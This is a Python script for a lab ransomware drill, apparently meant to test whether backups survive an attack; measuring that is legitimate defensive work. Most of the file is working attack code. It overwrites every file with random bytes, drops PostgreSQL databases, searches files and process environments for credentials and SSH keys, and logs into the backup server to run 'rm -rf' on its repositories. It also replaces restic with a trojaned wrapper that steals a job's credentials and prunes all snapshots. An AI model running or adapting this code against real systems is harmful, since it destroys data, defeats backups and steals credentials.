#!/usr/bin/python3
"""The ransomware drill's hands on a lab client (roles/ransomware_drill, playbooks/drill-ransomware.yml; LAB ONLY:
destroys data).

Run as root on the attacked hosts by ansible.builtin.script (stdlib only). Every command prints one JSON
document on stdout.

  baseline SPEC            sha256 of every file of the files datasets (their excludes applied) and md5 of every
                           row of every table of the PostgreSQL datasets
  compare SPEC BASELINE    the same, compared with a baseline file: files_lost, rows_lost (multiset of rows)
  encrypt SPEC             random bytes over every file, ransom note; DROP DATABASE and an empty one instead
  hunt                     credentials an attacker finds at rest: restic/cloud variables, SSH keys, AWS files
  attack SPEC              with what hunt found: restic forget/prune, HTTP DELETE/overwrite on the tunnel ports
                           and on the server, SSH to the backup server with every key found, port scan of it,
                           cloud credentials against the offsite endpoint
  plant / unplant          replace restic by a wrapper that, inside the next job, steals the job's credentials
                           from its environment and attacks the repository through the live tunnel first
  inflight OUT             (run by the wrapper) the in-job attack; results to OUT

SPEC: JSON {"files": [{"name", "paths", "excludes"}], "databases": [{"name", "database"}], "server": addr,
"ports": {dataset: tunnel port}, "rest_port": n, "offsite_endpoint": url or ""}.
"""

from __future__ import annotations

import collections
import fnmatch
import glob
import hashlib
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

NOTE = "VOS FICHIERS SONT CHIFFRES. Exercice Rempart (laboratoire) : aucune rancon.\n"
WRAPPER_DIR = Path("/root/.rempart-drill")
STOLEN = Path("/var/lib/rempart-backup-client")
# a credential *value* at rest (env file, shell export, ini/yaml): the name, then a token ending the line
CREDENTIAL_PATTERN = re.compile(
    rb"(RESTIC_PASSWORD|RESTIC_REST_PASSWORD|AWS_SECRET_ACCESS_KEY|aws_secret_access_key)[\"']?\s*[=:]\s*"
    rb"[\"']?[A-Za-z0-9+/=_.-]{8,}[\"']?\s*$",
    re.MULTILINE,
)


def attempt(actor: str, action: str, refused: bool, detail: str) -> dict[str, str]:
    return {
        "actor": actor,
        "action": action,
        "outcome": "refused" if refused else "succeeded",
        "detail": detail,
    }


def run(*args: str, env: dict[str, str] | None = None, timeout: int = 60) -> subprocess.CompletedProcess[str]:
    try:
        return subprocess.run(
            list(args), capture_output=True, text=True, env=env, timeout=timeout, check=False
        )
    except (OSError, subprocess.TimeoutExpired) as error:
        return subprocess.CompletedProcess(list(args), 124, "", str(error))


def excluded(path: str, patterns: list[str]) -> bool:
    name = os.path.basename(path)
    return any(fnmatch.fnmatchcase(path if "/" in p else name, p) for p in patterns)


def walk(paths: list[str], excludes: list[str]) -> list[str]:
    found = []
    for root in paths:
        for directory, dirs, files in os.walk(root):
            dirs[:] = sorted(d for d in dirs if not excluded(os.path.join(directory, d), excludes))
            found += [os.path.join(directory, f) for f in sorted(files)
                      if not excluded(os.path.join(directory, f), excludes)
                      and os.path.isfile(os.path.join(directory, f))]  # fmt: skip
    return found


def sha256(path: str) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as handle:
        while chunk := handle.read(1 << 20):
            digest.update(chunk)
    return digest.hexdigest()


def psql(database: str, sql: str) -> subprocess.CompletedProcess[str]:
    return run("runuser", "-u", "postgres", "--", "psql", "-X", "-qtA", "-v", "ON_ERROR_STOP=1", "-d", database,
               "-c", sql, timeout=600)  # fmt: skip


def rows_of(database: str) -> dict[str, list[str]]:
    tables = psql(database, "SELECT format('%I.%I', schemaname, tablename) FROM pg_tables "
                            "WHERE schemaname NOT IN ('pg_catalog', 'information_schema') ORDER BY 1")  # fmt: skip
    if tables.returncode != 0:
        return {}
    result = {}
    for table in tables.stdout.split():
        out = psql(database, f"SELECT md5(t::text) FROM {table} t ORDER BY 1")
        result[table] = out.stdout.split() if out.returncode == 0 else []
    return result


def baseline(spec: dict[str, Any]) -> dict[str, Any]:
    files = {}
    for dataset in spec.get("files", []):
        for path in walk(dataset["paths"], dataset.get("excludes", [])):
            files[path] = sha256(path)
    rows = {d["database"]: rows_of(d["database"]) for d in spec.get("databases", [])}
    return {"files": files, "rows": rows}


def compare(spec: dict[str, Any], reference: dict[str, Any]) -> dict[str, Any]:
    now = baseline(spec)
    lost_files = sorted(p for p, d in reference["files"].items() if now["files"].get(p) != d)
    rows_lost, rows_total, tables = 0, 0, {}
    for database, tables_before in reference["rows"].items():
        for table, hashes in tables_before.items():
            missing = collections.Counter(hashes) - collections.Counter(
                now["rows"].get(database, {}).get(table, [])
            )
            rows_lost += sum(missing.values())
            rows_total += len(hashes)
            tables[f"{database}:{table}"] = len(hashes) - sum(missing.values())
    return {"files_lost": len(lost_files), "files_total": len(reference["files"]), "lost_examples": lost_files[:10],
            "rows_lost": rows_lost, "rows_total": rows_total, "rows_matched": tables}  # fmt: skip


def encrypt(spec: dict[str, Any]) -> dict[str, Any]:
    count = 0
    for dataset in spec.get("files", []):
        for path in walk(dataset["paths"], []):
            size = os.path.getsize(path)
            with open(path, "r+b") as handle:
                handle.write(os.urandom(max(size, 16)))
            count += 1
        for root in dataset["paths"]:
            Path(root, "LISEZ-MOI-RANCON.txt").write_text(NOTE, encoding="utf-8")
    dropped = []
    for database in spec.get("databases", []):
        name = database["database"]
        psql("postgres", f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        psql("postgres", f'CREATE DATABASE "{name}"')
        psql(name, f"CREATE TABLE rancon (message text); INSERT INTO rancon VALUES ('{NOTE.strip()}')")
        dropped.append(name)
    return {"files_encrypted": count, "databases_dropped": dropped}


def hunt() -> dict[str, Any]:
    found: dict[str, Any] = {"secrets": [], "ssh_keys": [], "cloud_files": [], "process_env": []}
    for root in ("/etc", "/root", "/home", "/var/lib", "/opt", "/srv", "/usr/local"):
        for directory, _dirs, files in os.walk(root):
            if directory.startswith(
                ("/var/lib/postgresql", "/var/lib/dpkg", "/var/lib/apt", str(WRAPPER_DIR))
            ):
                continue
            for name in files:
                path = os.path.join(directory, name)
                try:
                    if os.path.islink(path) or os.path.getsize(path) > 1 << 20:
                        continue
                    data = Path(path).read_bytes()
                except OSError:
                    continue
                if CREDENTIAL_PATTERN.search(data) and b"rempart_ransomware" not in data:
                    found["secrets"].append(path)
                if b"PRIVATE KEY-----" in data[:100]:
                    found["ssh_keys"].append(path)
    found["cloud_files"] = [p for p in glob.glob("/root/.aws/*") + glob.glob("/home/*/.aws/*")
                            + glob.glob("/root/.config/rclone/*") if os.path.isfile(p)]  # fmt: skip
    for environ in glob.glob("/proc/[0-9]*/environ"):
        try:
            data = Path(environ).read_bytes()
        except OSError:
            continue
        if b"RESTIC_PASSWORD=" in data or b"AWS_SECRET_ACCESS_KEY=" in data:
            found["process_env"].append(environ)
    return found


def http(url: str, method: str, user: str = "", password: str = "", data: bytes | None = None,
         cafile: str | None = None) -> str:  # fmt: skip
    context = ssl.create_default_context(cafile=cafile) if cafile else ssl._create_unverified_context()
    request = urllib.request.Request(url, data=data, method=method)
    if user:
        import base64

        request.add_header(
            "Authorization", "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
        )
    try:
        with urllib.request.urlopen(request, timeout=8, context=context) as response:
            return str(response.status)
    except urllib.error.HTTPError as error:
        return str(error.code)
    except (urllib.error.URLError, OSError) as error:
        return f"unreachable ({getattr(error, 'reason', error)})"


def tcp_open(host: str, port: int) -> bool:
    try:
        socket.create_connection((host, port), timeout=4).close()
        return True
    except OSError:
        return False


def attack(spec: dict[str, Any]) -> list[dict[str, str]]:
    actor = f"root@{socket.gethostname()}"
    found = hunt()
    attempts = [attempt(actor, "search the host for backup and cloud credentials at rest", not found["secrets"]
                        and not found["cloud_files"] and not found["process_env"],
                        f"secrets in files: {found['secrets'] or 'none'}; cloud files: {found['cloud_files'] or 'none'}; "
                        f"processes with credentials: {found['process_env'] or 'none'}; "
                        f"private keys: {len(found['ssh_keys'])}")]  # fmt: skip
    server, rest_port = spec["server"], int(spec["rest_port"])
    for dataset, port in sorted(spec["ports"].items()):
        env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root",
               "RESTIC_REPOSITORY": f"rest:https://127.0.0.1:{port}/{dataset}/", "RESTIC_PASSWORD": "guess",
               "RESTIC_REST_USERNAME": dataset, "RESTIC_REST_PASSWORD": "guess"}  # fmt: skip
        forget = run("restic", "--insecure-tls", "forget", "--keep-last", "1", "--prune", env=env, timeout=15)
        attempts.append(attempt(actor, f"restic forget --prune on {dataset} outside a job (no credential found)",
                                forget.returncode != 0, (forget.stderr.strip().splitlines() or ["?"])[-1][:200]))  # fmt: skip
        for method in ("DELETE", "POST"):
            code = http(
                f"https://127.0.0.1:{port}/{dataset}/config", method, data=b"x" if method == "POST" else None
            )
            attempts.append(attempt(actor, f"HTTP {method} {dataset}/config on the tunnel port {port} outside a job",
                                    not code.startswith("2"), code))  # fmt: skip
    for method in ("DELETE", "POST"):
        code = http(f"https://{server}:{rest_port}/", method, data=b"x" if method == "POST" else None)
        attempts.append(attempt(actor, f"HTTP {method} on the backup server's repository port {server}:{rest_port}",
                                not code.startswith("2"), code))  # fmt: skip
    open_ports = [p for p in (21, 22, 80, 111, 139, 443, 445, 873, 2049, 3260, rest_port, 8000, 9000)
                  if tcp_open(server, p)]  # fmt: skip
    attempts.append(attempt(actor, f"scan {server} for a file service (rsync, NFS, SMB, iSCSI, FTP, HTTP)",
                            not set(open_ports) - {22}, f"open: {open_ports or 'none'}"))  # fmt: skip
    keys = found["ssh_keys"] or ["(no key: password-less attempt)"]
    logins = []
    for key in keys:
        for user in ("root", "rempart", "rempart-admin", "rempart-backup"):
            args = ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                    "-o", "ConnectTimeout=5", "-o", "IdentitiesOnly=yes", "-o", "PasswordAuthentication=no"]  # fmt: skip
            if os.path.exists(key):
                args += ["-i", key]
            result = run(
                *args, f"{user}@{server}", "rm -rf /srv/rempart/repos/* && echo DESTROYED", timeout=20
            )
            if "DESTROYED" in result.stdout:
                logins.append(f"{user} with {key}")
    attempts.append(attempt(actor, f"SSH to {server} with every private key found ({len(keys)}) as root, rempart, "
                            "rempart-admin, rempart-backup, then delete the repositories", not logins,
                            f"logged in: {logins}" if logins else "every login refused"))  # fmt: skip
    endpoint = spec.get("offsite_endpoint") or ""
    if endpoint:
        code = http(endpoint.rstrip("/") + "/" + spec.get("offsite_bucket", ""), "DELETE")
        attempts.append(attempt(actor, f"delete the offsite bucket {endpoint} with the credentials found (none)",
                                not code.startswith("2"), code))  # fmt: skip
    return attempts


def plant() -> dict[str, Any]:
    WRAPPER_DIR.mkdir(mode=0o700, exist_ok=True)
    shutil.copy2(__file__, WRAPPER_DIR / "rempart_ransomware.py")
    real = Path("/usr/bin/restic.real")
    if not real.exists():
        shutil.copy2("/usr/bin/restic", real)
    wrapper = (
        "#!/bin/sh\n# ransomware drill (lab): steal the job's credentials and attack through the live tunnel\n"
        'if [ "$1" = backup ]; then\n'
        f"  /usr/bin/python3 {WRAPPER_DIR}/rempart_ransomware.py inflight {STOLEN}/inflight-$(date +%s%N).json"
        " >/dev/null 2>&1\nfi\nexec /usr/bin/restic.real \"$@\"\n"
    )  # fmt: skip
    tmp = Path("/usr/bin/.restic.wrapper")
    tmp.write_text(wrapper, encoding="utf-8")
    tmp.chmod(0o755)
    tmp.replace("/usr/bin/restic")
    return {"planted": True}


def unplant() -> dict[str, Any]:
    real = Path("/usr/bin/restic.real")
    if real.exists():
        real.replace("/usr/bin/restic")
    results = []
    for path in sorted(STOLEN.glob("inflight-*.json")):
        results += json.loads(path.read_text(encoding="utf-8"))
        path.unlink()
    shutil.rmtree(WRAPPER_DIR, ignore_errors=True)
    return {"attempts": results}


def inflight(out: str) -> None:
    env = dict(os.environ)
    actor = f"root@{socket.gethostname()} (credentials stolen from a running job)"
    user, password = env.get("RESTIC_REST_USERNAME", ""), env.get("RESTIC_REST_PASSWORD", "")
    cafile = env.get("RESTIC_CACERT")
    repository = env.get("RESTIC_REPOSITORY", "").removeprefix("rest:")
    attempts = []
    listed = run("/usr/bin/restic.real", "snapshots", "--json", "--no-lock", env=env)
    ids = [s["id"] for s in json.loads(listed.stdout or "[]")] if listed.returncode == 0 else []
    forget = run("/usr/bin/restic.real", "forget", *ids, "--prune", env=env, timeout=120) if ids else None
    after = run("/usr/bin/restic.real", "snapshots", "--json", "--no-lock", env=env)
    left = [s["id"] for s in json.loads(after.stdout or "[]")] if after.returncode == 0 else []
    attempts.append(attempt(actor, f"restic forget --prune of all {len(ids)} snapshot(s) with the stolen credentials",
                            bool(ids) and set(ids) <= set(left),
                            f"rc {forget.returncode if forget else '-'}; {len(left)} snapshot(s) still listed; "
                            f"{(forget.stderr.strip().splitlines() or [''])[-1][:160] if forget else ''}"))  # fmt: skip
    victims = [f"snapshots/{ids[0]}"] if ids else []
    for target in [*victims, "config", "keys/"]:
        code = http(repository + target, "DELETE", user, password, cafile=cafile)
        attempts.append(
            attempt(actor, f"HTTP DELETE {target} through the job's tunnel", not code.startswith("2"), code)
        )
    for target in ["config", *victims]:
        code = http(repository + target, "POST", user, password, data=b"chiffre", cafile=cafile)
        attempts.append(attempt(actor, f"HTTP POST overwrite of {target} through the job's tunnel",
                                not code.startswith("2"), code))  # fmt: skip
    root = repository.rsplit("/", 2)[0] + "/"
    code = http(root, "GET", user, password, cafile=cafile)
    attempts.append(attempt(actor, "list the other repositories with the stolen credentials",
                            not code.startswith("2"), code))  # fmt: skip
    Path(out).write_text(json.dumps(attempts), encoding="utf-8")


def main(argv: list[str]) -> int:
    command = argv[1] if len(argv) > 1 else ""
    if command == "inflight":
        inflight(argv[2])
        return 0
    spec = json.loads(argv[2]) if len(argv) > 2 and command not in ("plant", "unplant", "hunt") else {}
    if command == "baseline":
        result: Any = baseline(spec)
    elif command == "compare":
        result = compare(spec, json.loads(Path(argv[3]).read_text(encoding="utf-8")))
    elif command == "encrypt":
        result = encrypt(spec)
    elif command == "hunt":
        result = hunt()
    elif command == "attack":
        result = attack(spec)
    elif command == "plant":
        result = plant()
    elif command == "unplant":
        result = unplant()
    else:
        print(__doc__, file=sys.stderr)
        return 64
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
